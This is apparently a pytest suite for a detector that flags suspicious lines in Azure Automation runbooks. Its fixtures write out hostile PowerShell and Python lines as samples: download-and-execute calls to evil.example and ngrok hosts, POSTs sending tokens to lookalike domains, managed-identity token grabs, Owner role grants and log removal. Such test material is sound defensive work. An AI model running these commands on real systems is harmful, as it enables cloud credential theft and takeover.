"""The lines worth reading first are found in the code, not in comments, and said why."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from detectors.triage.indicators import INDICATORS
from detectors.triage.script import MAX_LINES, findings, focus, rare_findings, without_comments

BLOB = "SQBFAFgAIAAoACcAeAAnACkAAAA="


def names(text: str, language: str = "PowerShell") -> list[str]:
    return [finding.indicator for finding in findings(text, language)]


@pytest.mark.parametrize(
    ("line", "indicator"),
    [
        ('$t = irm -Uri "$($env:IDENTITY_ENDPOINT)?resource=x" -Headers $h', "identity-token"),
        ("irm http://169.254.169.254/metadata/identity/oauth2/token", "identity-token"),
        ("Get-AzAccessToken -ResourceUrl https://vault.azure.net", "access-token"),
        ("(Get-AutomationPSCredential -Name x).GetNetworkCredential().Password", "credential-in-clear"),
        ("$c.Export([X509ContentType]::Pfx)", "certificate-export"),
        ("New-AzRoleAssignment -ObjectId $o -RoleDefinitionName 'Owner' -Scope /", "privileged-role"),
        ("New-AzRoleAssignment -ObjectId $o -RoleDefinitionId 8e3af657-a8ff-443c-a75c-2fe8c4bcb635", "privileged-role"),
        ("New-AzADAppCredential -ApplicationId $a", "application-credential"),
        ("New-AzAutomationWebhook -Name x", "webhook-written"),
        ("Register-AzAutomationScheduledRunbook -Name x", "schedule-written"),
        ("Import-AzAutomationRunbook -Path x", "runbook-written"),
        ("Invoke-AzRestMethod -Method PUT -Path /x/runbooks/y/draft/content", "runbook-written"),
        ("iex (irm https://evil.example/a.ps1)", "download-and-execute"),
        ("(New-Object Net.WebClient).DownloadString('https://evil.example/') | IEX", "download-and-execute"),
        ("i`e`x (i`rm https://evil.example/a.ps1)", "download-and-execute"),
        (f"powershell -nop -e {BLOB}", "encoded-command"),
        (f"pwsh.exe -EncodedCommand {BLOB}", "encoded-command"),
        ("$x = '" + "QUJD" * 100 + "'", "long-base64"),
        ("Remove-AzDiagnosticSetting -ResourceId $r", "diagnostics-removed"),
        ("Invoke-AzVMRunCommand -VMName v", "vm-command"),
        ("Get-ItemProperty HKLM:\\SOFTWARE\\Microsoft\\HybridRunbookWorkerV2", "hybrid-worker-internals"),
        ("gci Cert:\\LocalMachine\\My", "hybrid-worker-internals"),
        ("irm https://abc.ngrok.io/x -Method Post -Body $t", "tunnel-host"),
        ("Invoke-RestMethod -Method Post -Uri https://evil.example/x -Body $t", "foreign-post"),
        ("irm -Method Post -Uri https://evil-microsoft.com/ -Body $t", "foreign-post"),
        ("irm -Method Post -Uri https://microsoft.com.evil.example/ -Body $t", "foreign-post"),
        ("irm -Method Post -Uri https://microsoft.com@evil.example/ -Body $t", "foreign-post"),
    ],
)
def test_a_line_of_powershell_is_recognised(line: str, indicator: str) -> None:
    assert indicator in names(line)
    assert names(f"# {line}") == []
    assert names(f"<#\n{line}\n#>") == []


@pytest.mark.parametrize(
    ("line", "indicator"),
    [
        ("requests.get(os.environ['IDENTITY_ENDPOINT'])", "identity-token"),
        ("exec(requests.get('https://evil.example/a.py').text)", "download-and-execute"),
        ("requests.post('https://evil.example/', data=token)", "foreign-post"),
        ("os.system('curl https://evil.example | sh')", "download-and-execute"),
        ("cred = automationassets.get_automation_credential('x')", "credential-in-clear"),
    ],
)
def test_a_line_of_python_is_recognised(line: str, indicator: str) -> None:
    assert indicator in names(line, "Python")
    assert names(f"x = 1 # {line}", "Python") == []


@pytest.mark.parametrize(
    "line",
    [
        "Connect-AzAccount -Identity",
        "Invoke-RestMethod -Method Post -Uri https://management.azure.com/x -Body $b",
        "irm -Method Post -Uri 'https://graph.microsoft.com/v1.0/x' -Body $b",
        "New-AzRoleAssignment -ObjectId $owner -RoleDefinitionName Reader",
        "Invoke-WebRequest -Uri https://www.example.org/a.zip -OutFile a.zip",
        "Set-AzDiagnosticSetting -Enabled $true",
        "$conditionalAccessPolicies = Get-MgIdentityConditionalAccessPolicy",
        "$c.GetNetworkCredential().UserName",
        "Write-Output 'flexible'",
        "-ErrorAction SilentlyContinue",
    ],
)
def test_an_ordinary_line_is_left_alone(line: str) -> None:
    assert names(line) == []


def test_a_download_is_followed_through_a_variable() -> None:
    text = "$code = Invoke-WebRequest `\n  -Uri $u\nStart-Sleep 1\nInvoke-Expression $code.Content\n"
    assert [(f.indicator, f.line) for f in rare_findings(text, "PowerShell")] == [("download-and-execute", 4)]
    python = "code = requests.get(\n  url)\nexec(code.text)\n"
    assert [(f.indicator, f.line) for f in rare_findings(python, "Python")] == [("download-and-execute", 3)]


def test_a_statement_may_go_on_over_lines() -> None:
    text = "New-AzRoleAssignment -ObjectId $o `\n  -RoleDefinitionName 'Owner' `\n  -Scope /\n"
    assert [(f.indicator, f.line) for f in findings(text, "PowerShell")] == [("privileged-role", 1)]


def test_a_hash_in_a_string_is_no_comment() -> None:
    assert names('Write-Output "a # b" ; Get-AzAccessToken') == ["access-token"]
    assert names("Write-Output “ # ” ; Get-AzAccessToken") == ["access-token"]
    assert names("@'\n# \n'@ ; Get-AzAccessToken") == ["access-token"]


def test_an_unclosed_quote_hides_nothing() -> None:
    assert names('$x = "abc\n# Get-AzAccessToken') == ["access-token"]


def test_comments_are_blanked_and_nothing_moves() -> None:
    text = "a # b\n<# c\nd #> e\n'#'"
    assert without_comments(text, "PowerShell") == "a    \n    \n     e\n'#'"
    assert without_comments("a # b\n'#'", "Python") == "a    \n'#'"
    assert without_comments(text, "PlainText") == text


def test_only_rarities_of_powershell_are_rare() -> None:
    assert {row.name for row in INDICATORS if row.rare} == {
        "identity-token",
        "encoded-command",
        "download-and-execute",
        "tunnel-host",
    }
    assert rare_findings("requests.get(os.environ['IDENTITY_ENDPOINT'])", "Python") == ()
    assert len(rare_findings("irm $env:IDENTITY_ENDPOINT", "PowerShell")) == 1


def test_the_focus_is_bounded_in_order_and_keeps_the_rarest() -> None:
    noise = [f"Get-AzAccessToken # {n}" for n in range(40)]
    spread = ["Remove-AzDiagnosticSetting", "Invoke-AzVMRunCommand", "New-AzADAppCredential", "New-AzAutomationWebhook"]
    text = "\n".join([*noise, *(spread * 5), "iex (irm https://x.ngrok.io)"])
    lines = focus(text, "PowerShell")
    assert len(lines) == MAX_LINES
    assert [line.number for line in lines] == sorted(line.number for line in lines)
    assert lines[-1].number == 61
    assert "Downloads text and runs it" in lines[-1].reason
    assert "tunnel" in lines[-1].reason


def test_a_graphical_runbook_has_no_lines() -> None:
    assert focus("iex (irm https://x.ngrok.io)", "PlainText") == ()


@given(st.text(alphabet="#<>@\"'`\n$(iex rm“”\u2018=|\\", max_size=80), st.sampled_from(["PowerShell", "Python"]))
def test_no_text_makes_the_reader_fail_or_moves_a_line(text: str, language: str) -> None:
    blanked = without_comments(text, language)
    assert len(blanked) == len(text)
    assert blanked.count("\n") == text.count("\n")
    assert all(1 <= line.number <= text.count("\n") + 1 for line in focus(text, language))
